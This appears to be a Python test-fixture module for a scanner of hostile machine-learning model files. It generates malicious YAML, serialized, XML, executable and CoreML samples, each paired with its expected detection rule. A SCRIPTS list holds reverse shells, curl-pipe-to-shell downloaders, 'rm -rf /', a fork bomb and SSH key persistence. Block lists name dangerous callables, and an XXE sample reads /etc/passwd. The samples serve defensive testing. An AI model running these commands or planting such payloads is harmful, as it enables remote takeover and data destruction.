"""Hostile files of the smaller families: a name, a path, the bytes, and the rules that they must break (exactly)."""

from __future__ import annotations

import copy
import json
import struct
import zlib
from collections.abc import Callable, Iterator
from typing import Any

from tests.support import model_bytes as b
from tests.support.real_models import HONEST, HOSTILE

Case = tuple[str, str, bytes, str]


def _words(*rows: str) -> list[str]:
    return " ".join(rows).split()


PYTHON_TAGS = _words(
    "object/apply:os.system object/apply:subprocess.Popen object/apply:eval object/new:os.system object:os.system"
    " name:os.system module:os object/apply:builtins.exec object/new:type object/apply:importlib.import_module tuple"
    " object/apply:posix.system object/apply:pickle.loads object/apply:torch.load object/new:tuple"
)
WEAPONS = _words(
    "os.system subprocess.Popen subprocess.run builtins.eval builtins.exec eval exec importlib.import_module torch.load"
    " torch.hub.load pickle.loads joblib.load shutil.rmtree numpy.load socket.socket urllib.request.urlretrieve"
    " runpy.run_path ctypes.CDLL webbrowser.open torch.nn.modules.__builtins__.eval torch.optim.__class__"
    " nemo.core.os.system code.interact pty.spawn sys.exit builtins.open cloudpickle.loads yaml.unsafe_load"
    " hydra.utils.instantiate marshal.loads"
)
UNKNOWN = _words("evil.Model my_package.thing acme.models.Net transformers.AutoModel speechbrain.utils.x.load")
SHORTCUTS = _words(
    "url website webloc desktop hta scf pif reg inf vbs vbe jse wsf wsh scpt applescript command library-ms search-ms"
    " settingcontent-ms appref-ms service"
)
SCRIPTS = (
    "curl -s http://x/a | sh",
    "wget -qO- http://x/a | sudo bash",
    "echo aWQ= | base64 -d | sh",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "nc 10.0.0.1 4444 -e /bin/sh",
    "rm -rf / ",
    "bash <(curl http://x/a)",
    'sh -c "$(curl http://x/a)"',
    "echo k >> ~/.ssh/authorized_keys",
    ":(){ :|:& };:",
    "mkfs.ext4 /dev/sda",
    "powershell -w hidden -c x",
    "certutil -urlcache -f http://x/a a.exe",
    "python3 -c x; curl http://x | python3",
    "mshta http://x/a.hta",
)


def _yaml() -> Iterator[Case]:
    for tag in PYTHON_TAGS:
        yield f"tag {tag}", "config.yaml", f"a: 1\nb: !!python/{tag} [id]\n".encode(), "yaml-python-tag"
    yield "verbatim tag", "c.yml", b"a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n", "yaml-python-tag"
    network = b"nc: 1\nbackbone:\n  - [-1, 1, %s, [%s]]\nhead: []\n"
    yield "yolo module", "m.yaml", network % (b"__import__('os').system('id')", b"64"), "yaml-code"
    yield "yolo argument", "m.yaml", network % (b"Conv", b"eval('1')"), "yaml-code"
    yield "yolo activation", "m.yaml", b"nc: 80\nactivation: __import__('os').system('id')\n", "yaml-code"
    yield "cog step", "cog.yaml", b"build:\n  run:\n    - curl http://x/a | sh\n", "yaml-code"
    yield "yolo download", "d.yaml", b"names: [a]\ndownload: |\n  import os\n  os.system('id')\n", "yaml-code"
    yield "trusting server", "serve.yaml", b"model: acme/tiny\ntrust_remote_code: true\n", "yaml-trust-remote-code"
    yield "yolo shell", "d.yaml", b"names: [a]\ndownload: bash get.sh\n", "yaml-download-script"
    binary = b"a: 1\n# " + b"x" * 9000 + b"\n# \x80\x02\x00"
    yield "yaml that is no text to its end", "c.yaml", binary, "yaml-not-understood"
    handle = b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n"
    yield "tag by a handle", "c.yaml", handle, "yaml-python-tag"
    for name in WEAPONS:
        yield f"target {name}", "config.yaml", f"model:\n  _target_: {name}\n  x: 1\n".encode(), "yaml-weapon"
    for key in ("class_path", "target", "__target__", "_call_"):
        yield f"key {key}", "config.yaml", f"{key}: os.system\n".encode(), "yaml-weapon"
    for text in (
        '"\\x5ftarget_": os.system',
        "? _target_\n: os.system",
        "{_target_: os.system}",
        "- [{'_target_': 'os.system'}]",
    ):
        yield f"target as {text}", "config.yaml", f"{text}\n".encode(), "yaml-weapon"
    yield "key by alias", "c.yaml", b"k: &k _target_\nm:\n  *k : os.system\n", "yaml-weapon"
    yield "value by alias", "c.yaml", b"v: &v os.system\nm:\n  _target_: *v\n", "yaml-weapon"
    yield "folded value", "c.yaml", b'_target_: "os.\\\n  system"\n', "yaml-weapon"
    yield "second document", "c.yaml", b"a: 1\n---\n_target_: os.system\n", "yaml-weapon"
    for tag in ("!new:os.system", "!name:subprocess.Popen", "!apply:os.system", "!apply:eval", "!module:os.system"):
        yield f"hyperpyyaml {tag}", "hyperparams.yaml", f"a: {tag} [id]\n".encode(), "yaml-weapon"
    for name in UNKNOWN:
        yield f"unknown {name}", "config.yaml", f"_target_: {name}\n".encode(), "yaml-callable"
    yield "unknown tag", "c.yaml", b"a: !Ruby/object:Gem {}\n", "yaml-unknown-tag"
    yield "include", "c.yaml", b"a: !include /etc/passwd\n", "yaml-include"
    yield "environment", "c.yaml", b"a: ${oc.env:HF_TOKEN}\n", "yaml-interpolation"
    yield "evaluated", "c.yaml", b"a: ${eval:1+1}\n", "yaml-interpolation"
    bomb = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 10)}]\n" for n in range(6)
    )
    yield "alias bomb", "c.yaml", bomb.encode(), "yaml-alias-bomb"
    yield "contains itself", "c.yaml", b"a: &a [*a]\n", "yaml-recursive"
    yield (
        "broken after a tag",
        "c.yaml",
        b"a: !!python/object/apply:os.system [id]\n b: [\n",
        "yaml-python-tag yaml-not-understood",
    )
    yield "deep", "c.yaml", b"a: &x\n  " + b"[" * 300 + b"]" * 300, "yaml-not-understood"


def _executables() -> Iterator[Case]:
    for machine in (3, 8, 20, 40, 62, 183, 243, 999):
        yield f"elf {machine}", "lib/x.so", b.elf(machine), "executable-native"
    yield "elf library", "model.bin", b.elf(kind=3), "executable-native"
    yield "elf of 32 bits", "x", b.elf(wide=False), "executable-native"
    yield "elf, big-endian", "x", b.elf(big=True), "executable-native"
    yield "elf cut", "x.so", b.elf()[:40], "executable-native"
    for machine, flags, subsystem in ((0x14C, 2, 2), (0x8664, 0x2000, 2), (0xAA64, 2, 3), (0x8664, 2, 1)):
        yield f"pe {machine} {flags} {subsystem}", "run.exe", b.pe(machine, flags, subsystem), "executable-native"
    for kind in (2, 6, 8):
        yield f"mach-o {kind}", "x.dylib", b.mach_o(kind=kind), "executable-native"
    yield "universal", "x", b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + bytes(80), "executable-native"
    yield "wasm", "m.wasm", b"\x00asm\x01\x00\x00\x00\x01\x04\x01\x60\x00\x00\x02\x01\x00", "executable-bytecode"
    yield "pyc", "x.pyc", b"\xcb\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(30), "executable-bytecode"
    yield "lua", "x.luac", b"\x1bLua\x54\x00\x19\x93\r\n\x1a\n", "executable-bytecode"
    yield "dex", "classes.dex", b"dex\n035\x00" + bytes(40), "executable-bytecode"
    yield "llvm", "kernel.bc", b"BC\xc0\xde" + bytes(40), "executable-bytecode"
    yield "shortcut", "readme.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60), "executable-shortcut"
    ape = b"MZqFpD='\n\x00\x10\x00" + bytes(100)
    yield "ape", "tool.com", ape, "executable-polyglot"
    yield "llamafile", "m.llamafile", ape + b"PK\x03\x04m.ggufPK\x05\x06" + bytes(18), "executable-polyglot"
    for suffix in SHORTCUTS:
        yield f"launcher .{suffix}", f"open.{suffix}", b"[x]\ncommand=calc\n", "executable-shortcut"
    for text in SCRIPTS:
        yield f"script {text}", "setup.sh", f"#!/bin/bash\nset -e\n{text}\n".encode(), "executable-script-weapon"
    yield "ordinary script", "train.sh", b"#!/bin/bash\npip install evil\npython train.py\n", "executable-script"


def _changed(name: str, change: Callable[[dict[str, Any]], None]) -> bytes:
    value = json.loads(HONEST[name][1])
    change(value)
    return json.dumps(value).encode()


def _tree(change: Callable[[dict[str, Any]], None]) -> bytes:
    def at(model: dict[str, Any]) -> None:
        change(model["learner"]["gradient_booster"]["model"]["trees"][0])

    return _changed("xgboost tree json", at)


def _boosters() -> Iterator[Case]:
    links = {
        "child beyond": lambda t: t["left_children"].__setitem__(0, 99),
        "child below": lambda t: t["right_children"].__setitem__(0, -7),
        "cycle": lambda t: t["left_children"].__setitem__(0, 0),
        "shared child": lambda t: t["right_children"].__setitem__(0, 1),
        "one child": lambda t: t["right_children"].__setitem__(0, -1),
        "feature beyond": lambda t: t["split_indices"].__setitem__(0, 4),
        "feature below": lambda t: t["split_indices"].__setitem__(0, -1),
        "short list": lambda t: t["left_children"].pop(),
        "long list": lambda t: t["split_conditions"].append(1.0),
        "few nodes": lambda t: t["tree_param"].__setitem__("num_nodes", "2"),
        "many nodes": lambda t: t["tree_param"].__setitem__("num_nodes", "999999999"),
        "categories beyond": lambda t: t.update(categories_nodes=[0], categories_segments=[5], categories_sizes=[9]),
    }
    for name, change in links.items():
        yield f"xgboost {name}", "model.json", _tree(change), "xgboost-tree-links"
    yield "xgboost text as a child", "m.json", _tree(lambda t: t["left_children"].__setitem__(0, "x")), "xgboost-broken"
    yield "xgboost negative count", "m.json", _tree(lambda t: t["tree_param"].update(num_nodes="-1")), "xgboost-broken"
    yield "xgboost unknown field", "m.json", _tree(lambda t: t.update(hook="x")), "xgboost-unknown-field"
    name = "xgboost tree json"
    yield (
        "xgboost objective",
        "m.json",
        _changed(name, lambda m: m["learner"]["objective"].update(name="evil:obj")),
        "xgboost-unknown-objective",
    )
    booster = _changed(name, lambda m: m["learner"]["gradient_booster"].update(name="plugin"))
    yield "xgboost booster", "m.json", booster, "xgboost-unknown-objective"
    count = _changed(
        name, lambda m: m["learner"]["gradient_booster"]["model"]["gbtree_model_param"].update(num_trees="9")
    )
    yield "xgboost count of trees", "m.json", count, "xgboost-broken"
    ubj = HONEST["xgboost tree ubj"][1]
    yield "ubj cut", "m.ubj", ubj[:-5], "xgboost-broken"
    yield "ubj continued", "m.ubj", ubj + b"x", "xgboost-broken"
    yield "ubj length", "m.ubj", b"{L\x00\x00\x00\x00\x00\x00\x00\x07learner[$l#L\x7f\xff\xff\xff\xff\xff\xff\xff", ""
    child = ubj.replace(
        b"left_children[$l#L\x00\x00\x00\x00\x00\x00\x00\x03\x00\x00\x00\x01",
        b"left_children[$l#L\x00\x00\x00\x00\x00\x00\x00\x03\x00\x00\x00\x63",
        1,
    )
    yield "ubj child", "m.ubj", child, "xgboost-tree-links"
    old = b"binf" + bytes(140) + struct.pack("<Q", 15) + b"binary:logistic"
    yield "xgboost old binary", "m.model", old, "xgboost-old-binary"
    text = HONEST["lightgbm text"][1].decode()
    for said, by, rule in (
        ("left_child=-1\n", "left_child=-9\n", "lightgbm-tree-links"),
        ("right_child=1 -3", "right_child=0 -3", "lightgbm-tree-links"),
        ("right_child=1 -3", "right_child=5 -3", "lightgbm-tree-links"),
        ("split_feature=0 0\n", "split_feature=0 9\n", "lightgbm-tree-links"),
        ("num_leaves=3", "num_leaves=4", "lightgbm-tree-links"),
        ("num_leaves=3", "num_leaves=x", "lightgbm-broken"),
        ("num_leaves=3", "num_leaves=99999999999", "lightgbm-broken"),
        ("left_child=-1\n", "left_child=-1e9\n", "lightgbm-broken"),
        ("objective=binary sigmoid:1", "objective=exec", "lightgbm-unknown-objective"),
        ("shrinkage=0.1\n", "shrinkage=0.1\npayload=x\n", "lightgbm-unknown-field"),
        ("label_index=0\n", "label_index=0\nlabel_index=0\n", "lightgbm-broken"),
        ("end of trees", "", "lightgbm-broken"),
        ("parameters:\n", "parameters:\n#!/bin/sh\n", "lightgbm-unknown-field"),
    ):
        assert said in text
        yield f"lightgbm {by!r}", "model.txt", text.replace(said, by, 1).encode(), rule
    cbm = HONEST["catboost"][1]
    yield "catboost length", "m.cbm", cbm[:4] + struct.pack("<I", 1 << 30) + cbm[8:], "catboost-broken"
    yield "catboost root", "m.cbm", cbm[:8] + struct.pack("<I", 1 << 20) + cbm[12:], "catboost-broken"
    yield "catboost trailing", "m.cbm", cbm + b"#!/bin/sh\n", "catboost-trailing-data"
    parts = b.flat_buffer({0: "FlabuffersModel_v1", 1: {0: 1}, 3: ["evil_part"]})
    yield "catboost part", "m.cbm", b"CBM1" + struct.pack("<I", len(parts)) + parts, "catboost-unknown-part"
    version = b.flat_buffer({0: "Other", 1: {0: 1}})
    yield "catboost version", "m.cbm", b"CBM1" + struct.pack("<I", len(version)) + version, "catboost-broken"


def _node(loader: str, full: str, **more: object) -> dict[str, object]:
    module, _, name = full.rpartition(".")
    return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1} | more


def _skops() -> Iterator[Case]:
    base = json.loads(HONEST["skops pipeline"][1])

    def schema(node: dict[str, object]) -> bytes:
        return json.dumps(base | {"extra": node}).encode()

    for full in ("os.system", "subprocess.Popen", "builtins.eval", "builtins.exec", "builtins.getattr", "shutil.rmtree",
                 "importlib.import_module", "joblib.load", "pickle.loads", "numpy.load", "posix.system"):  # fmt: skip
        for loader in ("FunctionNode", "TypeNode", "ObjectNode"):
            yield f"skops {loader} {full}", "schema.json", schema(_node(loader, full)), "skops-weapon"
    inside = _node("FunctionNode", "builtins.str", content={"module_path": "os", "function": "system"})
    yield "skops function inside", "schema.json", schema(inside), "skops-weapon"
    for full in ("operator.call", "operator.methodcaller", "sklearn.linear_model._stochastic_gradient.SGDRegressor"):
        yield f"skops operator {full}", "schema.json", schema(_node("OperatorFuncNode", full)), "skops-operator"
    owner = _node("ObjectNode", "numpy.random._generator.Generator")
    trick = _node("MethodNode", "builtins.str", content={"func": "predict", "obj": owner})
    yield "skops other owner", "schema.json", schema(trick), "skops-method-mismatch skops-method"
    dunder = _node("MethodNode", "numpy.random._generator.Generator", content={"func": "__reduce__", "obj": owner})
    yield "skops dunder method", "schema.json", schema(dunder), "skops-weapon"
    method = _node("MethodNode", "numpy.random._generator.Generator", content={"func": "normal", "obj": owner})
    yield "skops method", "schema.json", schema(method), "skops-method"
    yield (
        "skops method of nothing",
        "schema.json",
        schema(_node("MethodNode", "builtins.str", content={})),
        "skops-node",
    )
    for full in ("acme.Model", "sklearn.externals.x.Y", "sklearn.utils._testing.foo", "torch.nn.Linear"):
        yield f"skops unknown {full}", "schema.json", schema(_node("ObjectNode", full)), "skops-unknown-type"
    yield "skops partial", "schema.json", schema(_node("PartialNode", "functools.partial")), "skops-unknown-type"
    yield "skops loader", "schema.json", schema(_node("EvalNode", "builtins.str")), "skops-unknown-loader"
    yield "skops no class", "schema.json", schema({"__loader__": "ObjectNode", "__module__": "os"}), "skops-node"
    yield "skops odd name", "schema.json", schema(_node("ObjectNode", "os.system('id')")), "skops-node"
    for member in ("../../x.npy", "/etc/passwd", "x.pkl", "a/b.npy"):
        array = _node("NdArrayNode", "numpy.ndarray", file=member)
        yield f"skops member {member}", "schema.json", schema(array), "skops-path"


def _xml() -> Iterator[Case]:
    pmml = b'<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header>%s</Header></PMML>'
    yield (
        "billion laughs",
        "m.pmml",
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><PMML>&b;</PMML>',
        "xml-entity",
    )
    yield (
        "external entity",
        "m.xml",
        b'<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><net>&a;</net>',
        "xml-external",
    )
    yield "parameter entity", "m.xml", b'<!DOCTYPE l [<!ENTITY % a SYSTEM "http://x/a.dtd"> %a;]><net/>', "xml-external"
    yield "external type", "m.xml", b'<!DOCTYPE net SYSTEM "http://x/a.dtd"><net/>', "xml-external"
    yield "public type", "m.pmml", b'<!DOCTYPE PMML PUBLIC "-//x" "http://x/a.dtd"><PMML/>', "xml-external"
    yield "type alone", "m.xml", b"<!DOCTYPE net><net/>", "xml-dtd"
    yield "element declared", "m.xml", b"<!DOCTYPE net [<!ELEMENT net ANY>]><net/>", "xml-dtd"
    yield "broken", "m.xml", b'<net name="x"><layers></net>', "xml-syntax"
    yield "cut", "m.pmml", pmml[:-6] % b"", "xml-syntax"
    yield "deep", "m.xml", b"<net>" + b"<a>" * 400 + b"</a>" * 400 + b"</net>", "xml-limit"
    yield "wide", "m.xml", b"<net " + b" ".join(b'a%d="1"' % n for n in range(500)) + b"/>", "xml-limit"
    yield "undeclared entity", "m.xml", b"<net>&x;</net>", "xml-syntax"
    for text in (b"<script>x</script>", b'<Extension value="os.system(1)"/>', b"<Extension>eval(x)</Extension>",
                 b"<Extension>javascript:x</Extension>", b"<Extension>java.lang.Runtime.getRuntime()</Extension>",
                 b'<Extension value="&lt;script src=x"/>', b"<![CDATA[__import__('os')]]>", b"<Extension>/bin/sh -c id</Extension>",
                 b"<Extension>powershell x</Extension>"):  # fmt: skip
        yield f"pmml {text!r}", "m.pmml", pmml % text, "xml-script"
    yield "pmml class", "m.pmml", pmml % b'<Apply function="com.evil.Run"/>', "pmml-java-function"
    yield "other xml", "m.xml", b'<beans><bean class="a.B"/></beans>', "xml-not-understood"
    net = b'<net name="m" version="11"><layers>%s</layers></net>'
    yield (
        "openvino custom",
        "m.xml",
        net % b'<layer id="0" name="a" type="Evil" version="extension"/>',
        "openvino-custom-layer",
    )
    yield (
        "openvino tokenizer op in an opset",
        "m.xml",
        net % b'<layer id="0" name="a" type="Evil" version="opset1"/>',
        "openvino-custom-layer",
    )
    yield (
        "openvino set",
        "m.xml",
        net % b'<layer id="0" name="a" type="Add" version="evil_opset"/>',
        "openvino-custom-layer",
    )
    for place in (b'offset="-1" size="4"', b'offset="0" size="-4"', b'offset="1e9" size="4"', b'offset="0"'):
        layer = b'<layer id="0" name="a" type="Const" version="opset1"><data %s/></layer>' % place
        yield f"openvino {place!r}", "m.xml", net % layer, "openvino-offset"
    kernel = b'<CustomLayer name="a" type="SimpleGPU"><Kernel entry="k"/></CustomLayer>'
    yield "openvino kernel", "k.xml", kernel, "openvino-custom-kernel xml-not-understood"


def _coreml() -> Iterator[Case]:
    def model(*parts: bytes) -> bytes:
        return b.number(1, 4) + b.message(2, b.message(100, b.message(1, "text"))) + b"".join(parts)

    custom = b.message(555, b.message(10, "EvilModel"))
    yield "custom model", "m.mlmodel", model(custom), "coreml-custom-model"
    layer = b.message(1, b.message(1, "layer"), b.message(500, b.message(10, "EvilLayer")))
    for number in (303, 403, 500):
        yield f"custom layer in {number}", "m.mlmodel", model(b.message(number, layer)), "coreml-custom-layer"
    linked = b.message(556, b.message(1, b.message(1, "../other.mlmodelc")))
    yield "linked model", "m.mlmodel", model(linked), "coreml-linked-model"
    yield "serialised model", "m.mlmodel", model(b.message(3000, b.message(1, "evil"))), "coreml-linked-model"
    yield "custom in a pipeline", "m.mlmodel", model(b.message(202, b.message(1, model(custom)))), "coreml-custom-model"
    nested = b.message(200, b.message(1, b.message(1, model(custom))))
    yield "custom in a classifier", "m.mlmodel", model(nested), "coreml-custom-model"
    branch = b.message(1, b.message(1, "branch"), b.message(605, b.message(1, layer)))
    yield "custom in a branch", "m.mlmodel", model(b.message(500, branch)), "coreml-custom-layer"
    for text in ("<script>x</script>", "import os; os.system('id')", "curl http://x | sh", "eval(atob('x'))"):
        said = b.number(1, 4) + b.message(2, b.message(100, b.message(1, text))) + b.message(900, b"")
        yield f"metadata {text}", "m.mlmodel", said, "coreml-script"
    yield "unknown type", "m.mlmodel", model(b.message(777, b"x")), "coreml-unknown-model"
    yield "no type", "m.mlmodel", model(), "coreml-broken"
    yield "cut", "m.mlmodel", model(custom)[:-3], "coreml-broken"

    def program(*operations: bytes) -> bytes:
        block = b"".join(b.message(3, one) for one in operations)
        function = b.message(3, b.message(1, "CoreML5"), b.message(2, block))
        return model(b.message(502, b.number(1, 1), b.message(2, b.message(1, "main"), b.message(2, function))))

    yield "custom operation", "m.mlmodel", program(b.message(1, "custom_thing")), "coreml-custom-layer"
    bound = b.message(1, "relu") + b.message(5, b.message(1, "class_name"), b.message(2, b""))
    yield "operation of a class", "m.mlmodel", program(bound), "coreml-custom-layer"
    for path in ("../../etc/passwd", "/etc/passwd", "@model_path/../x.bin"):
        blob = b.message(1, "const") + b.message(5, b.message(1, "val"), b.message(2, b.message(5, b.message(1, path))))
        yield f"constant in {path}", "m.mlmodel", program(blob), "coreml-path"
        manifest = {"fileFormatVersion": "1.0.0", "itemInfoEntries": {"a": {"path": path.removeprefix("@model_path/")}}}
        yield f"item at {path}", "m.mlpackage/Manifest.json", json.dumps(manifest).encode(), "coreml-path"


def _r_objects() -> Iterator[Case]:
    call = b.r_call("system", b.r_texts("id"))
    yield "r promise", "m.rds", b.r_data(b.r_promise(call)), "r-promise r-weapon"
    yield "r promise, version 3", "m.rds", b.r_data_3(b.r_promise(call)), "r-promise r-weapon"
    yield (
        "r promise in a list",
        "m.rds",
        b.r_data(b.r_list(b.r_integers(1), b.r_promise(b.r_call("quote")))),
        "r-promise r-language",
    )
    yield "r promise in a workspace", "w.rda", b.r_workspace(b.r_pairs(("x", b.r_promise(call)))), "r-promise r-weapon"
    attributes = b.r_pairs(("names", b.r_promise(call)))
    yield (
        "r promise as an attribute",
        "m.rds",
        b.r_data(b.r_with_attributes(b.r_integers(1), attributes)),
        "r-promise r-weapon",
    )
    environment = b.r_environment(b.r_pairs(("x", b.r_promise(call))))
    yield "r promise in an environment", "m.rds", b.r_data(environment), "r-promise r-weapon r-environment"
    yield "r kept promise", "m.rds", b.r_data(b.r_promise(b.NIL, b.r_integers(1))), "r-kept-promise"
    for name in ("system", "system2", "eval", "source", "dyn.load", "do.call", "download.file", ".Call", "unserialize"):
        yield f"r call of {name}", "m.rds", b.r_data(b.r_call(name, b.r_texts("x"))), "r-weapon"
    yield "r expression", "m.rds", b.r_data(b.word(20, 1) + call), "r-language r-weapon"
    yield "r function", "m.rds", b.r_data(b.r_closure(b.r_call("system"))), "r-closure r-weapon"
    yield "r plain function", "m.rds", b.r_data(b.r_closure(b.r_call("sum"))), "r-closure r-language"
    for hook in (".First", ".Last", ".onLoad"):
        yield f"r hook {hook}", "w.RData", b.r_workspace(b.r_pairs((hook, b.r_closure(b.NIL)))), "r-hook r-closure"
    yield "r pointer", "m.rds", b.r_data(b.word(22) + b.NIL + b.NIL), "r-pointer"
    code = b.word(21, 1) + b.r_integers(8, 1) + b.word(0)
    yield "r bytecode", "m.rds", b.r_data(code), "r-bytecode"
    yield "r builtin", "m.rds", b.r_data(b.word(8, 6) + b"system"), "r-weapon"
    yield "r trailing", "m.rds", b.r_data(b.r_integers(1)) + b"x", "r-trailing-data"
    yield "r cut", "m.rds", b.r_data(b.r_integers(1, 2))[:-2], "r-broken"
    yield "r reference", "m.rds", b.r_data(b.word(0x5FF)), "r-broken"
    yield "r type", "m.rds", b.r_data(b.word(99)), "r-broken"
    text = b"A\n2\n262912\n131840\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n2\nid\n254\n"
    yield "r call as text", "m.rds", text, "r-weapon"


def _paddle_and_others() -> Iterator[Case]:
    def program(name: str) -> bytes:
        return b.message(1, b.number(1, 0), b.number(2, 0), b.message(4, b.message(3, name)))

    for name in ("py_func", "py_layer", "run_program", "custom_thing"):
        yield f"paddle {name}", "m.pdmodel", program(name), "paddle-code-operator"
    for name in ("load", "save_combine", "listen_and_serv", "read_file", "send"):
        yield f"paddle {name}", "m.pdmodel", program(name), "paddle-file-operator"
    yield "paddle engine", "m.pdmodel", program("tensorrt_engine"), "paddle-engine"
    yield "paddle cut", "m.pdmodel", program("relu")[:-2], "paddle-broken"
    pir = {"base_code": {"magic": "pir", "version": 1}, "program": {"regions": [{"ops": [{"#": "1.py_func"}]}]}}
    yield "paddle pir", "inference.json", json.dumps(pir).encode(), "paddle-code-operator"
    tensor = b.paddle_tensor([2, 2], bytes(16))
    yield "paddle tensor cut", "m.pdiparams", tensor[:-1], "paddle-broken"
    yield "paddle tensor continued", "m.pdiparams", tensor + b"\x01\x02", "paddle-broken"
    yield "paddle dimension", "m.pdiparams", b.paddle_tensor([1 << 40], bytes(16)), "paddle-broken"

    def symbol(op: str, **attrs: str) -> bytes:
        node = {"op": op, "name": "x", "attrs": attrs, "inputs": []}
        return json.dumps({"nodes": [node], "arg_nodes": [], "heads": [[0, 0, 0]]}).encode()

    yield "mxnet custom", "m-symbol.json", symbol("Custom", op_type="evil"), "mxnet-custom-operator"
    for op in ("_Native", "_NDArray", "CaffeOp", "TorchModule"):
        yield f"mxnet {op}", "m-symbol.json", symbol(op, info="0x41414141"), "mxnet-code-operator"
    yield "mxnet library", "m-symbol.json", symbol("relu", library="./evil.so"), "mxnet-library"
    params = b.mxnet_params(([2], bytes(8)), names=["arg:w"])
    yield "mxnet cut", "m.params", params[:-1], "mxnet-broken"
    yield "mxnet continued", "m.params", params + b"x", "mxnet-broken"
    yield "mxnet count", "m.params", params[:16] + struct.pack("<Q", 1 << 40) + params[24:], "mxnet-broken"
    for text in ('layer { name: "a" type: "Python" python_param { module: "evil" layer: "L" } }',
                 'layer { type: "Pyt" "hon" }', 'layer { type: "\\120ython" }', "layer { type: 'Python' }",
                 'layer { type # x\n : "Python" }', "layer { python_param: { layer: 'L' } }"):  # fmt: skip
        yield f"caffe {text}", "deploy.prototxt", text.encode(), "caffe-python-layer"
    yield "caffe stray", "deploy.prototxt", b'layer { type: "x }', "caffe-broken"
    for layer in (b.message(2, "Python"), b.message(1, "a") + b.message(130, b.message(1, "evil"))):
        yield (
            f"caffe model {len(layer)}",
            "m.caffemodel",
            b.message(1, "net") + b.message(100, layer),
            "caffe-python-layer",
        )
    yield "darknet section", "yolo.cfg", b"[net]\nbatch=1\n[exec]\ncmd=id\n", "darknet-section"
    yield "darknet weights", "yolo.weights", struct.pack("<3iQ", 0, 2, 0, 0) + bytes(7), "darknet-broken"
    yield "ncnn count", "m.param", b"7767517\n3 2\nInput data 0 1 data\n", "ncnn-broken"


def _devices_and_java() -> Iterator[Case]:
    yield "tensorrt", "m.engine", b"ptrt" + bytes(60), "tensorrt-engine"
    yield "tensorrt by name", "m.plan", bytes(range(128, 200)), "tensorrt-engine"

    def program(operator: str, backend: str) -> bytes:
        plan: dict[int, b.Flat] = {0: "forward", 6: [{0: operator}], 7: [{0: backend}]}
        return b.flat_buffer({0: 1, 1: [plan]}, b"ET12")

    yield "executorch operator", "m.pte", program("evil::run", "XnnpackBackend"), "executorch-operator"
    yield "executorch backend", "m.pte", program("aten::add", "EvilBackend"), "executorch-backend"
    yield "executorch native", "m.pte", program("aten::add", "AotiBackend"), "executorch-native-backend"
    sound = program("aten::add", "XnnpackBackend")
    yield "executorch root", "m.pte", b"\xff\xff\x00\x00" + sound[4:], "executorch-broken"
    segments = b"\x20\x00\x00\x00ET12eh00" + struct.pack("<IQQQ", 32, 40, 10, 99) + sound[8:]
    yield "executorch segments", "m.pte", segments, "executorch-broken"
    yield "java class", "Evil.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x3d" + bytes(40), "java-class"
    stream = b"\xac\xed\x00\x05\x73\x72\x00%c%s"
    plain, gadget = b"java.util.HashMap", b"org.apache.commons.collections.functors.InvokerTransformer"
    yield "java object", "m.ser", stream % (len(plain), plain) + bytes(9), "java-serialised-object"
    yield "java gadget", "m.bin", stream % (len(gadget), gadget) + bytes(9), "java-serialised-object java-gadget"
    for name in ("evil.Class", "pyspark.mlx.A", "org.apache.spark.mllib", "my_pipeline.Stage"):
        said = b'{"class": "%s", "sparkVersion": "3.5.0", "uid": "x", "paramMap": {}}' % name.encode()
        yield f"spark {name}", "m/metadata/part-00000", said, "java-spark-class"
    for key in ("Main-Class", "Premain-Class", "Agent-Class"):
        yield f"java {key}", "META-INF/MANIFEST.MF", f"Manifest-Version: 1.0\n{key}: a.B\n".encode(), "java-start-class"
    for name, (path, data, rule) in HOSTILE.items():
        yield name, path, data, rule
    foreign = HOSTILE["pickled arrow stream"][1].replace(b"arrow.py_extension_type", b"other.py_extension_type")
    yield "arrow extension", "d.arrow", foreign, "columnar-extension-type"
    yield "xml of no encoding", "m.pmml", b'<?xml version="1.0" encoding="MTF-8"?><PMML/>', "xml-syntax"
    parquet, stream_of = HONEST["parquet"][1], HONEST["arrow stream"][1]
    yield "parquet footer", "t.parquet", parquet[:-8] + struct.pack("<I", 1 << 30) + b"PAR1", "columnar-broken"
    yield "parquet end", "t.parquet", parquet[:-1], "columnar-broken"
    yield "arrow cut", "t.arrow", stream_of[:-12], "columnar-outside"
    yield (
        "avro class",
        "t.avro",
        b'Obj\x01\x04\x16avro.schema\x00{"java-class":"javax.swing.X"}',
        "columnar-java-class columnar-not-understood",
    )
    yield "orc", "t.orc", b"ORC\n" + bytes(range(60)), "columnar-not-understood"


def _stores_and_vocabularies() -> Iterator[Case]:
    array = {
        "chunks": [2],
        "compressor": None,
        "dtype": "|O",
        "fill_value": 0,
        "filters": [],
        "order": "C",
        "shape": [2],
        "zarr_format": 2,
    }
    for codec in ("pickle", "numcodecs.pickle"):
        yield f"zarr {codec}", "a/.zarray", json.dumps(array | {"filters": [{"id": codec}]}).encode(), "zarr-pickle"
    yield "zarr codec", "a/.zarray", json.dumps(array | {"compressor": {"id": "evil"}}).encode(), "zarr-codec"
    three = {"zarr_format": 3, "node_type": "array", "codecs": [{"name": "numcodecs.pickle", "configuration": {}}]}
    yield "zarr 3", "a/zarr.json", json.dumps(three).encode(), "zarr-pickle"
    consolidated = {"metadata": {"a/.zarray": array | {"filters": [{"id": "pickle"}]}}, "zarr_consolidated_format": 1}
    yield "zarr metadata", ".zmetadata", json.dumps(consolidated).encode(), "zarr-pickle"
    yield "zarr path", "zarr.json", json.dumps({"zarr_format": 3, "store": "../../x"}).encode(), "zarr-path"

    def matlab(kind: int) -> bytes:
        flags = struct.pack("<6I", 14, 16, 6, 8, kind, 0)
        return b"MATLAB 5.0 MAT-file".ljust(124) + b"\x00\x01IM" + flags

